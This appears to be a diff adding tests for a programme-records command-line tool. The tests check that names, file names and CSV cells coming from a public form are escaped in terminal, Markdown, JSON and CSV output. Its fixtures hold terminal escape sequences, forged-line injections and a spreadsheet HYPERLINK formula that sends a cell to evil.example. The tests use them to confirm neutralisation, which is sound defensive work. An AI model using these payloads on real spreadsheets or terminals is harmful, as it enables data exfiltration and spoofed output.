@@ -3,14 +3,20 @@
  * anyone (the enrolment form is public) go through every output of the
  * package as text. CSV cells that a spreadsheet would run as a formula are
  * neutralised (OWASP) while the report's numbers stay numbers; Markdown
- * carries no markup, link or extra cell from a name; plain text and JSON show
- * control characters as visible escapes.
+ * carries no markup, link or extra cell from a name; plain text, JSON and
+ * every command of the command line show control characters as visible
+ * escapes, one line per record.
  */
 import assert from 'node:assert/strict';
+import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, it } from 'node:test';
+import { main } from '../../src/cli/main.js';
+import { errorLines, forTerminal, issueLine } from '../../src/cli/terminal.js';
 import { csvNumber, csvText, readCsv } from '../../src/model/csv.js';
 import { jsonText, markdownText, terminalSafe } from '../../src/model/escape.js';
-import { parseRecord, programmeReport } from '../../src/index.js';
+import { MechnetError, mechnetDefinition, parseRecord, programmeReport, publicRecord } from '../../src/index.js';
 import { renderCsv, renderJson, renderMarkdown, renderText, reportDocument, type ReportColumnKind } from '../../src/report/index.js';
 import { sampleRecordJson } from './load-sample.js';
 
@@ -271,5 +277,133 @@ describe('JSON: every name parses back whole, and the text breaks no consumer', 
       assert.deepEqual(JSON.parse(jsonText(value)), value);
     }
     assert.equal(jsonText({ a: 'b' }), JSON.stringify({ a: 'b' }, null, 2));
+  });
+});
+
+/** Runs the command line in this process; its exit code and what it wrote. */
+async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
+  let out = '';
+  let err = '';
+  const code = await main([...args, '--lang', 'en'], { write: (s: string) => (out += s) }, { write: (s: string) => (err += s) });
+  return { code, out, err };
+}
+
+function hostileFile(name = 'record.json', json: unknown = hostileRecordJson()): string {
+  const file = join(mkdtempSync(join(tmpdir(), 'mechnet-outside-')), name);
+  writeFileSync(file, typeof json === 'string' ? json : JSON.stringify(json));
+  return file;
+}
+
+describe('the command line: values from outside are escaped where they are printed', () => {
+  it('report as text, Markdown and JSON on the terminal', async () => {
+    const file = hostileFile();
+    for (const format of ['text', 'md', 'json']) {
+      const r = await cli('report', file, '--as-of', AS_OF, '--format', format);
+      assert.equal(r.code, 0, r.err);
+      assertTerminalSafe(r.out, `report --format ${format}`);
+      assert.doesNotMatch(r.out, /^\s*\|?\s*2\. Falsa/m, format);
+    }
+    const json = await cli('report', file, '--as-of', AS_OF, '--format', 'json');
+    assert.deepEqual((JSON.parse(json.out) as typeof report).firms.map((f) => f.name).sort(), [...NAMES].sort());
+  });
+
+  it('report into a folder: CSV neutralised, the file names it wrote safe', async () => {
+    const dir = join(mkdtempSync(join(tmpdir(), 'mechnet-outside-')), 'out\x1b[2J\nfalse');
+    const r = await cli('report', hostileFile(), '--as-of', AS_OF, '--format', 'csv', '--out', dir);
+    assert.equal(r.code, 0, r.err);
+    assertTerminalSafe(r.out, 'report --out');
+    assert.equal(r.out.split('\n').filter(Boolean).length, readdirSync(dir).length, 'one line per file written');
+    assert.ok(r.out.includes('out\\x1b[2J\\nfalse'));
+    const firms = readFileSync(join(dir, 'firms.csv'), 'utf8');
+    assert.ok(firms.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clicca qui"")"`));
+  });
+
+  it('schedule: one line per firm, its name escaped', async () => {
+    const r = await cli('schedule', hostileFile(), '--as-of', AS_OF);
+    assert.equal(r.code, 0, r.err);
+    assertTerminalSafe(r.out, 'schedule');
+    const lines = r.out.trimEnd().split('\n');
+    const firms = lines.slice(3);
+    assert.equal(firms.length, NAMES.length, 'one line per firm');
+    NAMES.forEach((name, k) => assert.ok(firms[k]!.startsWith(terminalSafe(name)), `${firms[k]!.slice(0, 60)}`));
+  });
+
+  it('validate: a file name and a quoted value from the document are escaped', async () => {
+    const valid = await cli('validate', hostileFile('rec\x1b[2J\n\u202efdp.json'));
+    assert.equal(valid.code, 0, valid.err);
+    assertTerminalSafe(valid.out, 'validate');
+    assert.match(valid.out, /^.*rec\\x1b\[2J\\n\\u202efdp\.json: valid programme record\n$/);
+    const definition = hostileFile('definition.json', mechnetDefinition);
+    const bad = await cli('validate', hostileFile('bad\x1b]8;;x\x07.json', { programme: 'evil\x1b[2J\nForged: valid programme record', events: [] }), '--definition', definition);
+    assert.equal(bad.code, 1);
+    assertTerminalSafe(bad.err, 'validate, invalid');
+    assert.doesNotMatch(bad.err, /^Forged/m);
+    assert.match(bad.err, /evil\\x1b\[2J\\nForged/);
+    const key = await cli('validate', hostileFile('key.json', { programme: 'mechnet-varese-2010', events: [{ id: 'e1', type: 'enrolment.accepted', date: '2010-03-01', author: 'x', firm: '02184730121', ['k\x1b[2J\nforged']: 1 }] }));
+    assert.equal(key.code, 1);
+    assertTerminalSafe(key.err, 'validate, an unknown key');
+    assert.match(key.err, /^events\[0\]\.k\\x1b\[2J\\nforged: /m);
+  });
+
+  it('import: CSV cells and the file name quoted in the problems are escaped', async () => {
+    const into = hostileFile();
+    const csv = hostileFile('m\x1b[2J.csv', 'firm,indicator,date,value\n02184730121,top2-share,2012-04-02,"lots\x1b[2J\nline 9: forged"\n"0218\x1b[31m4730121",top2-share,2012-04-03,1\n');
+    const r = await cli('import', csv, '--into', into);
+    assert.equal(r.code, 1);
+    assertTerminalSafe(r.err, 'import');
+    assert.doesNotMatch(r.err, /^line 9/m);
+    assert.match(r.err, /lots\\x1b\[2J\\nline 9: forged/);
+    assert.equal(r.err.trimEnd().split('\n').length, 3, 'one line per problem, then the count');
+  });
+
+  it('applications on a store: one line per application, names escaped; export and a missing file too', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'mechnet-outside-'));
+    const store = `sqlite:${join(dir, 'a.sqlite')}`;
+    const json = hostileRecordJson();
+    json.events = json.events.filter((e: any) => e.type === 'enrolment.applied');
+    const loaded = await cli('load', hostileFile('applied.json', json), '--store', store);
+    assert.equal(loaded.code, 0, loaded.err);
+    const r = await cli('applications', '--store', store, '--programme', 'mechnet-varese-2010', '--as-of', '2010-02-28');
+    assert.equal(r.code, 0, r.err);
+    assertTerminalSafe(r.out, 'applications');
+    const heads = r.out.split('\n').filter((l) => /^\d+\. /.test(l));
+    assert.equal(heads.length, NAMES.length, 'one line per application');
+    NAMES.forEach((name, k) => assert.ok(heads[k]!.startsWith(`${k + 1}. ${terminalSafe(name)} (partita IVA `), heads[k]!.slice(0, 80)));
+    assert.doesNotMatch(r.out, /^2\. Falsa/m);
+
+    const exported = await cli('export', '--store', store, '--programme', 'mechnet-varese-2010');
+    assert.equal(exported.code, 0, exported.err);
+    assertTerminalSafe(exported.out, 'export');
+    assert.deepEqual(parseRecord(exported.out).events.map((e: any) => e.application.firm.name), NAMES);
+
+    const missing = await cli('load', join(dir, 'no\x1b[2J\nsuch.json'), '--store', store);
+    assert.equal(missing.code, 2);
+    assertTerminalSafe(missing.err, 'load of a missing file');
+    assert.match(missing.err, /no\\x1b\[2J\\nsuch\.json/);
+  });
+
+  it('publish: the public record keeps every published name whole, as JSON that breaks no consumer', async () => {
+    const out = join(mkdtempSync(join(tmpdir(), 'mechnet-outside-')), 'public.json');
+    const r = await cli('publish', hostileFile(), '--out', out);
+    assert.equal(r.code, 0, r.err);
+    const text = readFileSync(out, 'utf8');
+    assert.equal(text.includes('<'), false);
+    assert.equal(/[\u2028\u2029]/.test(text), false);
+    assertTerminalSafe(text, 'publish');
+    const expected = publicRecord(record);
+    assert.deepEqual(parseRecord(text), parseRecord(JSON.parse(JSON.stringify(expected))));
+    const shown = parseRecord(text).events.filter((e: any) => e.type === 'enrolment.applied').map((e: any) => e.application.firm.name);
+    assert.ok(NAMES.filter((n) => shown.includes(n)).length > 0, 'names published by consent come back whole');
+  });
+
+  it('the helpers: messages escape their values, issues their paths and messages', () => {
+    const t = forTerminal({ wrote: (f: string) => `Wrote ${f}`, n: (k: number) => `${k} rows`, words: { ok: 'done' } });
+    assert.equal(t.wrote('a\x1b[2J\nb'), 'Wrote a\\x1b[2J\\nb');
+    assert.equal(t.n(3), '3 rows');
+    assert.equal(t.words.ok, 'done');
+    assert.equal(issueLine(['events', 0, 'k\x1b\n'], 'bad "\u202e"'), 'events[0].k\\x1b\\n: bad "\\u202e"');
+    const e = new MechnetError('invalid_record', [{ path: ['programme'], code: 'x', params: {}, messages: { it: 'no «\x1b»', en: 'no "\x1b"' } } as never]);
+    assert.deepEqual(errorLines(e, 'en', 'f\n.json').slice(0, 1).map((l) => l.startsWith('f\\n.json: ')), [true]);
+    assert.equal(errorLines(e, 'en').at(-1), 'programme: no "\\x1b"');
   });
 });
